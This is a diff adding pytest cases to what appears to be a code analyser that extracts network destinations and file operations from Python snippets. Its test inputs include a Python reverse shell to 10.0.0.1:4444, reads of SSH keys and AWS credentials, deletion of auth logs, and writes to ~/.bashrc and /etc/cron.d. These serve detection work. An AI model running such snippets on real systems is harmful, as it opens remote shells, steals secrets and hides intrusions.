@@ -139,6 +139,50 @@ def test_literal_urls_given_to_http_calls(source: str, expected: tuple[str, str,
 
 
 @pytest.mark.parametrize(
+    ("source", "query"),
+    [
+        (
+            "requests.get('https://ec2.amazonaws.com/', params={'Action': 'RunInstances'})",
+            "Action=RunInstances",
+        ),
+        (
+            "requests.post('https://a.io/?v=1', data={'amount': 100, 'x': 'a b'})",
+            "v=1&amount=100&x=a+b",
+        ),
+        ("requests.post('https://a.io/', json={'Action': 'RunInstances'})", ""),
+        ("requests.get('https://a.io/', params=build())", ""),
+    ],
+)
+def test_request_parameters_are_the_query(source: str, query: str) -> None:
+    assert [u.query for u in python(source).urls] == [query]
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (
+            "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
+            "s.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
+            [("", "tcp", "10.0.0.1", 4444)],
+        ),
+        ("from socket import socket\nsocket().connect(('db', 5432))", [("", "tcp", "db", 5432)]),
+        ("import socket\nh = 'x.io'\nsocket.create_connection((h, 80))", [("", "tcp", "x.io", 80)]),
+        ("import socket\nsocket.create_connection((host, 80))", []),
+        ("db.connect(('x.io', 80))", []),
+        (
+            "import os\nos.environ['OPENAI_BASE_URL'] = 'http://127.0.0.1:9/v1'",
+            [("", "http", "127.0.0.1", 9)],
+        ),
+        ("import os\nos.environ['MODE'] = 'fast'", []),
+    ],
+)
+def test_sockets_and_environment_destinations(
+    source: str, expected: list[tuple[str, str, str, int | None]]
+) -> None:
+    assert [(u.method, u.scheme, u.host, u.port) for u in python(source).urls] == expected
+
+
+@pytest.mark.parametrize(
     "source",
     [
         "requests.get(url)",
@@ -215,3 +259,43 @@ def test_source_that_looks_like_a_path_is_a_path() -> None:
         ("/tmp/out.csv", "write"),
     }
     assert facts.code is None
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (
+            "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_rsa').read_text())",
+            {("~/.ssh/id_rsa", "read")},
+        ),
+        (
+            "import shutil, os\nshutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/c')",
+            {("~/.aws/credentials", "read"), ("/tmp/c", "write")},
+        ),
+        (
+            "import os\nos.remove(os.path.join('/var/log', 'auth.log'))",
+            {("/var/log/auth.log", "delete")},
+        ),
+        (
+            "from pathlib import Path\np = Path('~/.bashrc').expanduser()\n"
+            "with p.open('a') as f:\n    f.write('x')",
+            {("~/.bashrc", "write")},
+        ),
+        (
+            "import pathlib\npathlib.Path('/etc/cron.d/x').write_text('* * *')",
+            {("/etc/cron.d/x", "write")},
+        ),
+        (
+            "from pathlib import Path\nPath('/tmp').joinpath('a', 'b').unlink()",
+            {("/tmp/a/b", "delete")},
+        ),
+        ("import tarfile\ntarfile.open('/tmp/w.tgz', 'w:gz').add('m')", {("/tmp/w.tgz", "write")}),
+        ("import os\nos.rename('a', 'b')", {("a", "read"), ("a", "delete"), ("b", "write")}),
+        ("import os\nos.chmod('run.sh', 0o755)", {("run.sh", "write")}),
+        ("import os\nos.listdir(os.path.expanduser('~/.ssh'))", set()),
+        ("import webbrowser\nwebbrowser.open('https://x.io')", set()),
+        ("from pathlib import Path\nPath(name).read_text()", set()),
+    ],
+)
+def test_files_through_pathlib_os_and_shutil(source: str, expected: set[tuple[str, str]]) -> None:
+    assert {(p.path, p.op) for p in python(source).paths} == expected
